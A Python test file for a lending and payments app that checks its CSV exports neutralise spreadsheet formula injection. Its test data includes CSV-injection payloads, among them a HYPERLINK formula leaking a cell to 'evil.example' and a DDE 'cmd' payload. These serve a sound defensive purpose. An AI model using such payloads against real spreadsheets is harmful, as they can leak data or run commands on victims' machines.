"""Every CSV we write for a person to open (CONTRACT §6): text that came from outside and
begins like a formula is written with a leading ', so a spreadsheet shows it instead of
running it; amounts, dates and receipt numbers are written as they are."""

import csv
import io
import re
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select

from lenders.csvfile import cell, csv_lines
from lenders.extensions import db
from lenders.loanbook import REQUIRED_COLUMNS
from payments.models import C2BPayment
from tests.payments.conftest import c2b_body

pytestmark = pytest.mark.both_databases

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Jane Wanjiku", "Jane Wanjiku"),
        ("LOAN-000123", "LOAN-000123"),
        ("TK60708BHZ", "TK60708BHZ"),
        ("", ""),
        (None, ""),
        (Decimal("-150.00"), "-150.00"),
        (Decimal("1500"), "1500.00"),
        (7, "7"),
        (date(2025, 1, 15), "2025-01-15"),
        (
            datetime(2025, 1, 15, 14, 30, 12, tzinfo=timezone(timedelta(hours=3))),
            "2025-01-15T14:30:12+03:00",
        ),
    ],
)
def test_figures_and_plain_text_are_written_as_they_are(value, written):
    assert cell(value) == written


def test_a_quoted_cell_stays_one_cell():
    line = next(csv_lines([["=1+2,3", "Jane"]]))
    assert next(csv.reader(io.StringIO(line))) == ["'=1+2,3", "Jane"]


def test_every_csv_is_written_by_the_one_writer():
    """A CSV written anywhere else would skip the formula guard. The Daraja emulator is not
    the product (nothing imports it): its statement is Safaricom's file, written as the org
    portal writes it (preamble rows, negative amounts, the A/C No. as the payer typed it),
    so that importing it tests what importing the real one does."""
    root = Path(__file__).resolve().parents[2]
    emulator = root / "payments" / "emulator"
    for package in ("lenders", "payments"):
        for path in (root / package).rglob("*.py"):
            if path.name == "csvfile.py" or emulator in path.parents:
                continue
            source = path.read_text()
            assert not re.search(r"csv\.(writer|DictWriter)\(", source), path


def hostile_payments(confirm):
    for n, reference in enumerate(HOSTILE):
        confirm(
            c2b_body(
                TransID=f"TK6CSV{n:04d}",
                BillRefNumber=reference.strip(),
                TransAmount="150.00",
                FirstName="=cmd",
            )
        )
    db.session.expire_all()
    return {p.trans_id: p for p in db.session.scalars(select(C2BPayment))}


def check_transactions(text: str, payments: dict) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        payment = payments[row["trans_id"]]  # the receipt as it is
        assert row["amount"] == "150.00" and re.fullmatch(r"20\d\d-.*\+03:00", row["trans_time"])
        assert row["bill_ref"] == "'" + payment.bill_ref
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_transactions_export_on_the_page_quotes_what_payers_typed(client, auth, confirm):
    auth.login("admin")
    payments = hostile_payments(confirm)
    check_transactions(client.get("/payments/transactions/export.csv").get_data(True), payments)


def test_the_transactions_export_command_quotes_what_payers_typed(
    runner, confirm, shortcode, tmp_path
):
    payments = hostile_payments(confirm)
    target = tmp_path / "transactions.csv"
    result = runner.invoke(args=["payments", "export-transactions", str(target)])
    assert result.exit_code == 0, result.output
    check_transactions(target.read_text(encoding="utf-8-sig"), payments)


def test_the_loans_export_quotes_names_and_numbers_from_an_import(runner, tmp_path):
    book = tmp_path / "book.csv"
    with book.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(REQUIRED_COLUMNS)
        writer.writerow(
            ["+LOAN-1", '=HYPERLINK("http://x")', "2100001", "0722000001", "1000", "0", "0"]
            + ["2025-01-15", "2", "monthly"]
        )
    assert runner.invoke(args=["lenders", "import-loans", str(book)]).exit_code == 0
    target = tmp_path / "loans.csv"
    assert runner.invoke(args=["lenders", "export-loans", str(target)]).exit_code == 0
    (row,) = csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig")))
    assert row["loan_number"] == "'+LOAN-1"
    assert row["borrower_name"] == '\'=HYPERLINK("http://x")'
    assert (row["total_due"], row["outstanding"], row["next_due_on"]) == (
        "1000.00",
        "1000.00",
        "2025-02-15",
    )
